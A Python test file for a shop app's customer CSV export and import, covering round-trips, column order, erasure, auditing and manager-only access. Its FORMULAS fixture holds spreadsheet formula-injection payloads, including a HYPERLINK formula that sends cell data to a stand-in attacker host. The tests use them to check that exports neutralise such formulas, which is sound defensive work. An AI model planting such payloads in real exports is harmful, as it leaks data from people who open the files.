from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient
from sqlalchemy import select

from regulars.customers import service as customers
from regulars.customers.imports import importer
from regulars.customers.models import Customer
from regulars.db import Database
from regulars.merchants.models import AuditEvent
from tests.factories import Shop, make_customer, make_merchant


def profiles(db: Database, shop: Shop) -> list[dict[str, Any]]:
    def read(s: Any) -> list[dict[str, Any]]:
        ids = s.scalars(
            select(Customer.id).where(Customer.merchant_id == shop.id, Customer.erased_at.is_(None))
        ).all()
        out = []
        for cid in ids:
            c = customers.get_customer(s, shop.ctx, cid)
            out.append(
                {
                    "name": c.name,
                    "name_search": c.name_search,
                    "phone": c.phone,
                    "email": c.email,
                    "birthday": c.birthday,
                    "anniversary": c.anniversary,
                    "locale": c.locale,
                    "tags": c.tags,
                    "attributes": c.attributes,
                    "consent": {k: v.granted for k, v in c.consent.items()},
                }
            )
        return sorted(out, key=lambda p: p["name"] or "")

    return db.run(read, write=False)


def seed(db: Database, shop: Shop) -> None:
    make_customer(
        db,
        shop,
        name="ဒေါ်မြမြ",
        phone="09 7812 34567",
        email="Mya@Example.com",
        birthday="1985-04-17",
        anniversary="2010-12-01",
        locale="my",
        tags=["vip", "cake lover"],
        attributes={"vehicle": "Hilux", "name": "clashes with the name column"},
        consent={"sms": True, "email": False},
    )
    make_customer(db, shop, name='Ayesha, "the" regular', email="ayesha@example.com")
    make_customer(db, shop, name="Line\nbreak", phone="+95 9 7812 34568", attributes={"n": 3})


def test_export_then_import_into_another_merchant_round_trips(db: Database, tmp_path: Path) -> None:
    a = make_merchant(db, name="A Shop")
    b = make_merchant(db, name="B Shop")
    seed(db, a)
    out = io.StringIO()
    assert importer.export_csv(db, a.ctx, out) == 3
    path = tmp_path / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8")

    summary = importer.import_file_cli(db, b.ctx, path, merge=False, report_path=None)

    assert (summary["imported"], summary["rejected"]) == (3, 0), summary
    expected = profiles(db, a)
    line_break = next(p for p in expected if p["name"] == "Line break")
    line_break["attributes"] = {"n": "3"}  # custom attributes come back as text
    assert profiles(db, b) == expected


def test_export_columns_and_values(db: Database) -> None:
    shop = make_merchant(db)
    seed(db, shop)
    out = io.StringIO()
    importer.export_csv(db, shop.ctx, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert list(rows[0]) == [
        "member_code",
        "name",
        "phone",
        "email",
        "birthday",
        "anniversary",
        "locale",
        "tags",
        "consent_email",
        "consent_sms",
        "n",
        "attributes.name",
        "vehicle",
    ]  # attribute columns sorted by key
    mya = next(r for r in rows if r["phone"] == "+959781234567")
    assert {k: v for k, v in mya.items() if k != "member_code"} == {
        "name": "ဒေါ်မြမြ",
        "phone": "+959781234567",
        "email": "mya@example.com",
        "birthday": "1985-04-17",
        "anniversary": "2010-12-01",
        "locale": "my",
        "tags": "vip; cake lover",
        "consent_email": "no",
        "consent_sms": "yes",
        "attributes.name": "clashes with the name column",
        "n": "",
        "vehicle": "Hilux",
    }


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Daw Mya")',
    "email": "=cmd@example.com",
    "tags": ["@vip", "-10% club"],
    "attributes": {"=plate": "+95 1/AB 1234", "note": "@SUM(A1:A9)", "delta": -5},
}


def _formula_customer(db: Database, shop: Shop) -> None:
    make_customer(db, shop, phone="+95 9 7812 34599", **FORMULAS)


def test_export_writes_formula_like_text_so_no_spreadsheet_runs_it(db: Database) -> None:
    shop = make_merchant(db)
    _formula_customer(db, shop)
    out = io.StringIO()
    importer.export_csv(db, shop.ctx, out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))

    header, row = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert header[-3:] == ["'=plate", "delta", "note"]
    assert row["name"] == "'" + FORMULAS["name"]
    assert row["email"] == "'=cmd@example.com"
    assert row["tags"] == "'@vip; -10% club"
    assert (row["'=plate"], row["note"], row["delta"]) == ("'+95 1/AB 1234", "'@SUM(A1:A9)", "'-5")
    assert row["phone"] == "+959781234599"  # E.164 stays as it is: a number, not a formula
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == row["phone"]


def test_formula_like_text_round_trips_through_export_and_import(
    db: Database, tmp_path: Path
) -> None:
    a = make_merchant(db, name="A Shop")
    b = make_merchant(db, name="B Shop")
    _formula_customer(db, a)
    out = io.StringIO()
    importer.export_csv(db, a.ctx, out)
    path = tmp_path / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8")

    summary = importer.import_file_cli(db, b.ctx, path, merge=False, report_path=None)

    assert (summary["imported"], summary["rejected"]) == (1, 0), summary
    (got,) = profiles(db, b)
    assert got["name"] == FORMULAS["name"]
    assert got["email"] == "=cmd@example.com"
    assert got["tags"] == ["@vip", "-10% club"]
    assert got["attributes"] == {"=plate": "+95 1/AB 1234", "note": "@SUM(A1:A9)", "delta": "-5"}


def test_an_apostrophe_typed_before_ordinary_text_is_kept(db: Database, tmp_path: Path) -> None:
    shop = make_merchant(db)
    path = tmp_path / "typed.csv"
    path.write_text("name,phone\n'Tis Cafe,09 7812 34590\n", encoding="utf-8")

    importer.import_file_cli(db, shop.ctx, path, merge=False, report_path=None)

    assert [p["name"] for p in profiles(db, shop)] == ["'Tis Cafe"]


def test_export_leaves_out_erased_customers_and_is_audited(db: Database) -> None:
    shop = make_merchant(db)
    keep = make_customer(db, shop, name="Keep", phone="09 7812 34567")
    gone = make_customer(db, shop, name="Gone", phone="09 7812 34568")
    db.run(lambda s: customers.erase_customer(s, shop.ctx, gone.id))
    out = io.StringIO()
    assert importer.export_csv(db, shop.ctx, out) == 1
    text = out.getvalue()
    assert keep.member_code in text
    assert "Gone" not in text and "+959781234568" not in text
    actions = db.run(
        lambda s: s.scalars(
            select(AuditEvent.action).where(AuditEvent.merchant_id == shop.id)
        ).all(),
        write=False,
    )
    assert actions.count("customers.exported") == 1


def test_export_streams_more_than_one_batch(db: Database, monkeypatch: Any) -> None:
    from regulars.customers import csv_export

    monkeypatch.setattr(csv_export, "BATCH", 2)
    shop = make_merchant(db)
    for i in range(5):
        make_customer(db, shop, name=f"C{i}")
    out = io.StringIO()
    assert importer.export_csv(db, shop.ctx, out) == 5
    names = sorted(r["name"] for r in csv.DictReader(io.StringIO(out.getvalue())))
    assert names == ["C0", "C1", "C2", "C3", "C4"]


def test_api_export_is_csv_for_managers_only(client: TestClient, db: Database) -> None:
    shop = make_merchant(db)
    other = make_merchant(db, name="Other Shop")
    make_customer(db, shop, name="Aye", phone="09 7812 34567")
    make_customer(db, other, name="Not Mine")
    r = client.get("/api/v1/customers.csv", headers=shop.key_for(db, "manager"))
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [(row["name"], row["phone"]) for row in rows] == [("Aye", "+959781234567")]
    denied = client.get("/api/v1/customers.csv", headers=shop.key_for(db, "cashier"))
    assert denied.status_code == 403
    assert denied.headers["content-type"] == "application/problem+json"
